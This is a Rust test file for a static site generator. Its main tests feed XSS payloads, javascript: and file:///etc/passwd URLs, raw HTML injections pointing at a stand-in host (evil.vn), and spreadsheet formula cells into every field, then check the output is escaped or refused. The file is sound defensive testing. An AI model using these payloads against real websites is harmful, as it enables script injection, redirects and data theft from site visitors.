            Site::with(NEWS, news("").replace("---\n\n", &format!("{line}\n---\n"))).build();
        assert!(outcome.files.is_none());
        assert!(
            matches!(outcome.codes()[..], ["KY215" | "KY502" | "KY503"]),
            "{:?}",
            outcome.codes()
        );
    }
    let outcome = Site::with(
        "content/people.yaml",
        format!("- {{id: {long}, name: An}}\n"),
    )
    .build();
    assert!(outcome.files.is_none());
}

#[test]
fn two_pages_that_claim_one_address() {
    let page = |slug: &str| format!("---\ntitle: A\nslug: {slug}\n---\n");
    for (file, text) in [
        ("content/pages/a.md", page("cong-van")),
        (
            "content/pages/a.md",
            page("data").replace("slug: data", "aliases: [/data/tasks.json/]"),
        ),
        ("content/pages/a.md", page("en")),
        ("content/pages/a.md", page("muc-tieu")),
        (
            "content/news/a.md",
            page("tin").replace("---\nt", "---\ndate: 2021-12-06\nt"),
        ),
        (
            "content/dispatches/a.md",
            page("2021").replace("---\nt", "---\ndate: 2021-12-06\nt"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/tin-tuc/]"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/index.html]"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/404.html/]"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/a.html, /a.html/b/]"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/x/, /X/]"),
        ),
        (
            "content/pages/a.md",
            page("x").replace("slug: x", "aliases: [/style.css/]"),
        ),
        ("static/index.html", String::new()),
        ("static/Sitemap.XML", String::new()),
        ("static/tin-tuc", String::new()),
        ("static/tin-tuc/index.html/x", String::new()),
    ] {
        let outcome = Site::with(file, &text).build();
        assert!(outcome.files.is_none(), "{file}\n{text}");
        assert!(
            outcome.codes().iter().all(|code| *code == "KY501"),
            "{file}\n{text}"
        );
    }
    // A file beside a page that has the name of a part of the site.
    let site = Site::with("content/pages/cong-van", "x");
    site.put(
        "content/pages/a.md",
        "---\ntitle: A\nattachments: [{file: cong-van}]\n---\n",
    );
    let outcome = site.build();
    assert!(outcome.files.is_none());
    assert!(outcome.codes().iter().all(|code| *code == "KY501"));
}

#[test]
fn a_file_that_becomes_a_folder_and_back() {
    let site = Site::with("static/x", "a");
    site.build().accepted();
    fs::remove_file(site.path("static/x")).unwrap();
    site.put("static/x/y", "b");
    let outcome = site.build();
    assert_eq!(outcome.text("x/y"), "b");
    fs::remove_dir_all(site.path("static/x")).unwrap();
    site.put("static/x", "a");
    assert_eq!(site.build().text("x"), "a");
}

// Dates.

#[test]
fn dates() {
    let on = |date: &str| Site::with(NEWS, news("").replace("date: 2021-12-06", date)).build();
    let outcome = on("date: 27-9-2019");
    assert!(outcome.text(PAGE).contains("datetime=\"2019-09-27\""));
    assert!(outcome.accepted().contains_key("tin-tuc/2019/index.html"));
    for (date, value) in [
        ("2021-02-31", "2021-02-31"),
        ("31/4/2021", "31/4/2021"),
        ("13/13/2021", "13/13/2021"),
        ("0000-00-00", "0000-00-00"),
        ("99999-01-01", "99999-01-01"),
        ("-1-01-01", "-1-01-01"),
        ("2021-12-06T25:00:00", "2021-12-06T25:00:00"),
        ("hôm nay", "hôm nay"),
        ("1e9", "1e9"),
    ] {
        let outcome = on(&format!("date: {date}"));
        outcome.refused(&["KY210"], NEWS);
        let place = outcome.place("KY210");
        assert_eq!((place.line, place.column), (3, 7), "{date}");
        let message = outcome.diagnostics[0].problem.message(Language::Vi);
        assert!(message.contains(value), "{message}");
    }
    // The ends of time: a page or a report, in any time zone.
    for date in [
        "0001-01-01",
        "01/01/0001",
        "9999-12-31",
        "31/12/9999",
        "9999-12-31T23:59:59-11:00",
    ] {
        for zone in ["Pacific/Kiritimati", "Pacific/Niue"] {
            let line = "publish_at: D\nexpires: D\nchanges: [{date: D, note: x}]\nsource: {name: x, published_at: D}";
            let site = Site::with(
                NEWS,
                news(&format!("[a](tin.md) {date}\n")).replace(
                    "2021-12-06",
                    &format!("{date}\n{}", line.replace('D', date)),
                ),
            );
            site.put(
                "content/dispatches/d.md",
                format!("---\ntitle: D\ndate: {date}\ntasks: [{{text: x, due: {date}}}]\n---\n"),
            );
            site.put(
                "content/agencies/so-b.md",
                format!("---\nname: B\nfrom: {date}\nuntil: {date}\n---\n"),
            );
            site.put("site.yaml", format!("{SITE}time_zone: {zone}\n"));
            site.build();
            site.put("site.yaml", format!("{SITE}as_of: {date}\n"));
            site.build();
        }
    }
    for missing in ["", "date:", "date: ~"] {
        let outcome = on(missing);
        outcome.refused(&["KY207"], NEWS);
    }
}

// What somebody tries to smuggle into a page.

/// Text that does harm wherever it is not escaped. The product is a number that nothing else is.
const EVIL: &str = "</title></p></div></main><x-evil onclick=alert(1)>\"'><script>alert(1)</script>&lt;x-evil&gt;{{ 7001*7001 }}";

/// Checks all pages: nothing that runs, no address that does.
#[track_caller]
fn harmless(outcome: &Outcome) {
    for (file, bytes) in outcome.accepted() {
        if file.ends_with(".html") {
            harmless_page(file, std::str::from_utf8(bytes).unwrap());
        }
    }
}

/// Whether a script is the one of every page, a file of the theme with its version.
fn is_display_script(element: &scraper::node::Element) -> bool {
    let src = element.attr("src").unwrap_or_default();
    let version = src.strip_prefix("/display.js?v=");
    let is_plain = |version: &str| version.bytes().all(|byte| byte.is_ascii_alphanumeric());
    version.is_some_and(is_plain) && element.attrs().count() == 1
}

/// Whether a script holds data, which is not run (HTML, section 4.12.1).
fn is_data(element: &scraper::node::Element) -> bool {
    element.attr("type") == Some("application/ld+json") && element.attrs().count() == 1
}

fn harmless_page(file: &str, text: &str) {
    let html = Html::parse_document(text);
    let scripts = select(&html, "script");
    assert!(scripts.len() <= 3, "{file}: {} scripts", scripts.len());
    for script in scripts {
        match is_data(script.value()) {
            true => assert!(
                serde_json::from_str::<serde_json::Value>(&script.inner_html()).is_ok(),
                "{file}"
            ),
            false => assert_eq!(script.inner_html(), "", "{file}"),
        }
    }
    assert!(
        !text.contains("49014001"),
        "{file}: a template in a value was carried out"
    );
    assert_eq!(select(&html, "main").len(), 1, "{file}");
    assert_eq!(select(&html, "title").len(), 1, "{file}");
    for element in html
        .tree
        .nodes()
        .filter_map(|node| node.value().as_element())
    {
        let name = element.name();
        // The theme's own: the script in the head, and buttons that send nothing.
        let of_theme = match name {
            "script" => is_display_script(element) || is_data(element),
            "button" => element.attr("type") == Some("button") && element.attr("name").is_none(),
            _ => false,
        };
        let plain = !matches!(
            name,
            "script"
                | "style"
                | "iframe"
                | "object"
                | "embed"
                | "svg"
                | "math"
                | "form"
                | "base"
                | "x-evil"
                | "frameset"
                | "applet"
                | "template"
                | "noscript"
                | "video"
                | "audio"
                | "textarea"
                | "button"
        );
        assert!(
            plain || of_theme || is_of_search(element),
            "{file}: <{name}>"
        );
        for (attribute, value) in element.attrs() {
            let inert = !attribute.starts_with("on")
                && !matches!(
                    attribute,
                    "style" | "srcdoc" | "formaction" | "ping" | "target"
                );
            assert!(inert, "{file}: <{name} {attribute}>");
            if matches!(
                attribute,
                "href" | "src" | "cite" | "action" | "data" | "srcset"
            ) {
                let bare: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect();
                let scheme = bare
                    .split([':', '/', '?', '#'])
                    .next()
                    .unwrap_or_default()
                    .to_lowercase();
                // A citation to be saved: none of these is ever run or shown as a page.
                let citation = [
                    "x-bibtex",
                    "x-research-info-systems",
                    "vnd.citationstyles.csl+json",
                ]
                .iter()
                .any(|form| value.starts_with(&format!("data:application/{form};charset=utf-8,")));
                let known = matches!(scheme.as_str(), "http" | "https" | "mailto" | "tel" | "")
                    || (citation && attribute == "href");
                assert!(
                    known || !bare[scheme.len()..].starts_with(':'),
                    "{file}: {attribute}={value}"
                );
            }
            if attribute == "http-equiv" {
                assert_eq!(value, "refresh", "{file}");
            }
        }
        // Ours is the only page that leads on, and has no text of an author.
        if element.attr("http-equiv").is_some() {
            assert!(
                text.contains("<body class=\"redirect\">"),
                "{file} leads elsewhere"
            );
        }
    }
}

/// Whether an element is one that the search has: a script from a file of the
/// site, the form that asks, a button.
fn is_of_search(element: &scraper::node::Element) -> bool {
    match element.name() {
        "script" => {
            let src = element.attr("src");
            element.attr("type") == Some("module")
                && src.is_some_and(|src| src.starts_with("/search.js?v="))
                && element.attrs().count() == 2
        }
        "form" => {
            let action = element.attr("action").unwrap_or_default();
            matches!(element.attr("class"), Some("ask" | "ask script" | "find"))
                && action.starts_with('/')
                && !action.starts_with("//")
        }
        "button" => element.attrs().all(|(name, value)| {
            matches!(
                (name, value),
                ("id", "_more") | ("type", "button") | ("hidden", "")
            )
        }),
        _ => false,
    }
}

#[test]
fn evil_in_every_field() {
    let evil = serde_json::to_string(EVIL).unwrap();
    let site = Site::new();
    let common = format!(
        "title: {evil}\nsummary: {evil}\nchanges: [{{date: 2021-12-07, note: {evil}}}]\n\
         cover: {{file: a.png, caption: {evil}, credit: {evil}, alt: {evil}}}\n\
         attachments: [{{file: a.png, title: {evil}}}]\nextra: {{a: {evil}}}\n\
         themes: [chu-de]\nagencies: [so-b]\npeople: [binh]\nforum: ky\naliases: [/cu/]\n"
    );
    for (folder, own) in [
        (
            "dispatches",
            format!(
                "date: 2021-12-06\nnumber: {evil}\nissuer: so-b\nplace: {evil}\naddressees: [{evil}, so-b]\n\
                 basis: [{evil}]\ntasks: [{{id: nv, text: {evil}, agencies: [so-b], due: 2021-12-07}}]\n\
                 signatory: {{position: {evil}, person: {evil}}}\ncopies: [{evil}]\n"
            ),
        ),
        (
            "news",
            format!(
                "date: 2021-12-06\nlocation: {evil}\nlede: {evil}\nsource: {{name: {evil}, author: {evil}, url: https://a.vn/?a=%22%3E%3Cx}}\n\
                 photos: [{{file: a.png, caption: {evil}, credit: {evil}, alt: {evil}}}]\n"
            ),
        ),
        (
            "policies",
            format!(
                "date: 2021-12-06\ndocuments: [luat]\nlead: {evil}\ntargets: [{{year: 2030, statement: {evil}, \
                 indicator: {evil}, value: {evil}, unit: {evil}, baseline: {{value: {evil}}}, agencies: [so-b]}}]\n"
            ),
        ),
        (
            "sessions",
            format!(
                "date: 2021-12-06\nstarts: 2021-12-06\nvenue: {evil}\nchairs: [{evil}]\n\
                 attendance: {{in_person: {evil}, online: {evil}, points: {evil}}}\n\
                 papers: [{{title: {evil}, speakers: [{evil}], agency: {evil}, file: a.png}}]\n\
                 points: [{{name: {evil}, agency: {evil}, chair: {evil}}}]\n"
            ),
        ),
        ("pages", String::new()),
    ] {
        site.put(&format!("content/{folder}/a.png"), "PNG");
        let common = common.replace("/cu/", &format!("/cu/{folder}/"));
        let text = format!("---\n{common}{own}---\n\n{EVIL}\n\n# {EVIL}\n\n- {EVIL}\n");
        site.put(&format!("content/{folder}/xau.md"), text);
    }
    let entry = |own: String| format!("---\nname: {evil}\nsummary: {evil}\n{own}---\n\n{EVIL}\n");
    site.put(
        "content/agencies/so-b.md",
        entry(format!(
            "short_names: [{evil}]\naliases: [{evil}]\nkind: {evil}\nlocality: {evil}\ncontact: {evil}\n\
             names: [{{name: {evil}, until: 2020}}]\nsuccessors: [{{agency: so-a, how: renamed}}]\nwebsite: https://a.vn/\n"
        )),
    );
    site.put(
        "content/people/binh.md",
        entry(format!(
            "aliases: [{evil}]\nhonorifics: [{evil}]\npositions: [{{title: {evil}, agency: {evil}}}]\n"
        )),
    );
    site.put(
        "content/themes/hai.md",
        entry(format!("aliases: [{evil}]\n")),
    );
    site.put(
        "content/documents/luat.md",
        entry(format!(
            "type: {evil}\nnumber: {evil}\nissuer: {evil}\ntitle: {evil}\n"
        )),
    );
    site.put(
        "content/forums/ky.md",
        entry(format!(
            "theme: {evil}\nvenue: {evil}\norganisers: [{evil}]\nchairs: [{evil}]\n"
        )),
    );
    let both = format!("{{vi: {evil}, en: {evil}}}");
    site.put(
        "site.yaml",
        format!(
            "title: {both}\ndescription: {both}\nbase_url: https://kyyeu.example/\nlanguages: [vi, en]\nforum: ky\n\
             organisation: {{example: true, name: {both}, licence: {both}, licensor: {both}, responsible: {evil}, position: {both}, \
             address: {both}, telephone: {evil}, fax: {evil}, email: {evil}, built_by: {both}}}\n\
             menu: [{{title: {both}, to: news}}]\nlinks: [{{title: {both}, url: https://a.vn/}}]\nextra: {{a: {evil}}}\n"
        ),
    );
    site.put(
        "i18n/vi.yaml",
        format!("home: {evil}\nmenu: {evil}\nfeed_title: {evil}\nfootnotes: {evil}\n"),
    );
    let outcome = site.build();
    harmless(&outcome);
    for file in ["atom.xml", "tin-tuc/atom.xml", "sitemap.xml"] {
        let mut reader = quick_xml::Reader::from_str(outcome.text(file));
        while reader.read_event().unwrap() != quick_xml::events::Event::Eof {}
        assert!(!outcome.text(file).contains("<x-evil"));
    }
    for (file, bytes) in outcome.accepted() {
        if file.ends_with(".json") {
            serde_json::from_slice::<serde_json::Value>(bytes).unwrap();
        }
    }
}

#[test]
fn addresses_that_run() {
    let addresses = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>x</script>",
        "file:///etc/passwd",
        "javascript&colon;alert(1)",
        "//evil.vn/",
        "\\\\evil.vn\\x",
        "http:evil",
        "x:y",
        "blob:https://a.vn/x",
        "https://a.vn/\"onclick=x",
        "mailto:a@b.vn",
    ];
    for address in addresses {
        let yaml = serde_json::to_string(address).unwrap();
        for (path, text) in [
            (
                NEWS,
                format!(
                    "---\ntitle: A\ndate: 2021-12-06\nsource: {{name: Báo, url: {yaml}}}\n---\n"
                ),
            ),
            (
                "content/agencies/so-b.md",
                format!("---\nname: Sở B\nwebsite: {yaml}\n---\n"),
            ),
            (
                "content/documents/luat.md",
                format!("---\nname: Luật\nurl: {yaml}\n---\n"),
            ),
            (
                "site.yaml",
                format!("{SITE}links: [{{title: A, url: {yaml}}}]\n"),
            ),
            (
                "site.yaml",
                format!("{SITE}menu: [{{title: A, to: {yaml}}}]\n"),
            ),
        ] {
            let outcome = Site::with(path, text).build();
            match outcome.files {
                Some(_) => harmless(&outcome),
                None => {
                    let place = outcome.diagnostics[0].place.as_ref().unwrap();
                    assert_eq!(&*place.path, path, "{address}");
                    assert!(
                        matches!(outcome.codes()[..], ["KY404" | "KY004"]),
                        "{:?}",
                        outcome.codes()
                    );
                }
            }
            let plain = address.trim_start_matches(|c: char| c.is_control() || c == ' ');
            let runs = [
                "javascript:",
                "vbscript:",
                "data:",
                "file:",
                "java",
                "blob:",
            ];
            if runs
                .iter()
                .any(|scheme| plain.to_lowercase().starts_with(scheme))
            {
                assert!(outcome.files.is_none(), "{path} may lead to {address}");
            }
        }
        let site = Site::new();
        for body in [
            format!("[a](<{address}>)\n"),
            format!("![a](<{address}>)\n"),
            format!("<{address}>\n"),
            format!("[a]\n\n[a]: <{address}>\n"),
            format!("<a href=\"{address}\">a</a>\n"),
            format!("<img src='{address}' alt=a>\n"),
            format!("<a href={address}>a</a>\n"),
            format!("<q cite=\"{address}\">a</q>\n"),
            format!("[[{address}]]\n"),
            format!("[[page:x|{address}]]\n"),
        ] {
            site.put(NEWS, news(&body));
            let outcome = site.build();
            if outcome.files.is_some() {
                harmless(&outcome);
            }
        }
    }
}

#[test]
fn raw_html_that_does_harm() {
    let site = Site::new();
    for html in [
        "<b onclick=alert(1)>x</b>",
        "<img src=x onerror=alert(1)>",
        "<b style='position:fixed'>x</b>",
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.vn/x></SCRIPT>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><script>x</script></mtext></math>",
        "<meta http-equiv=refresh content='0;url=//evil.vn'>",
        "<base href=//evil.vn/>",
        "<link rel=stylesheet href=//evil.vn/x>",
        "<style>body{display:none}</style>",
        "<style><img src=x onerror=alert(1)></style>",
        "<iframe src=javascript:x></iframe>",
        "<object data=javascript:x></object>",
        "<embed src=javascript:x>",
        "<form action=//evil.vn><input name=p><button>x</button></form>",
        "<a href=' javascript:x'>x</a>",
        "<a href='java&#10;script:x'>x</a>",
        "<a href='&#106;avascript:x'>x</a>",
        "<a href=x target=_blank ping=//evil.vn>x</a>",
        "<div style='background:url(javascript:x)'>x</div>",
        "<details ontoggle=alert(1) open>x</details>",
        "<video onerror=x><source onerror=x></video>",
        "<textarea></main>",
        "<title></main>",
        "<noscript><p title='</noscript><img src=x onerror=x>'>",
        "<template><script>x</script></template>",
        "<!--><img src=x onerror=x>-->",
        "<!-- --!><img src=x onerror=x> -->",
        "<![CDATA[><img src=x onerror=x>]]>",
        "<?xml ><img src=x onerror=x>?>",
        "<plaintext>",
        "<xmp></main>",
        "<table><tr><td></main>",
        "<select><option></main>",
        "</div></article></main></body></html><x-evil>",
        "</p></div></div></article></main><footer>x</footer>",
        "<a><a><a></main>",
        "<p><div></p></main>",
        "<li></ul></main>",
        "<h1 id=_main>x</h1>",
        "<main>x</main>",
        "<body onload=x>",
        "<html lang=xx>",
        "<frameset onload=x>",
        "<b id='x' id='y' ONCLICK=z>",
        "<b/onclick=x>",
        "<b\u{c}onclick=x>",
        "<b\nonclick\n=\nx>",
        "<img src=\"x\" \"onerror=alert(1)\">",
        "<a href=\"x\"onclick=\"y\">x</a>",
        "<img alt=\"<x onclick='\" src=x>",
        "<b title=\"</p><script>x</script>\">x</b>",
    ] {
        for body in [
            format!("Trước.\n\n{html}\n\nSau cùng.\n"),
            format!("Trước {html} giữa\n\nSau cùng.\n"),
            format!("- {html}\n- x\n\n> {html}\n\nSau cùng.\n"),
            format!("| a |\n|---|\n| {html} |\n\nSau cùng.\n"),
            format!("# {html}\n\n[{html}](tin.md)\n\nSau cùng.\n"),
        ] {
            site.put(NEWS, news(&body));
            let outcome = site.build();
            if outcome.files.is_none() {
                assert!(
                    outcome.codes().iter().any(|code| code.starts_with("KY4")),
                    "{body}"
                );
                continue;
            }
            harmless(&outcome);
            let html = Html::parse_document(outcome.text(PAGE));
            for selector in [
                "body > main > article .text",
                "body > footer.foot",
                "html[lang=vi]",
                "#_main",
            ] {
                assert_eq!(select(&html, selector).len(), 1, "{selector}\n{body}");
            }
            // The text after it is still where the text is.
            let text = select(&html, "body > main > article .text");
            let words: String = text[0].text().collect();
            let swallowed = [
                "plaintext",
                "xmp",
                "<!--",
                "textarea",
                "<title",
                "template",
                "noscript",
                "select",
                "style",
                "svg",
                "script",
                "<?",
                "CDATA",
            ];
            if !swallowed
                .iter()
                .any(|name| body.to_lowercase().contains(name))
            {
                assert!(words.contains("Sau cùng."), "{body}\n{words}");
            }
        }
    }
}

#[test]
fn cells_that_spreadsheets_would_carry_out() {
    for formula in [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\u{b}=1+1",
        "'=1",
        "\"=1",
    ] {
        let yaml = serde_json::to_string(formula).unwrap();
        let site = Site::with(NEWS, format!("---\ntitle: {yaml}\ndate: 2021-12-06\n---\n"));
        let outcome = site.build();
        let text = outcome.text("data/news.csv");
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for row in reader.records() {
            for cell in &row.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
    }
}
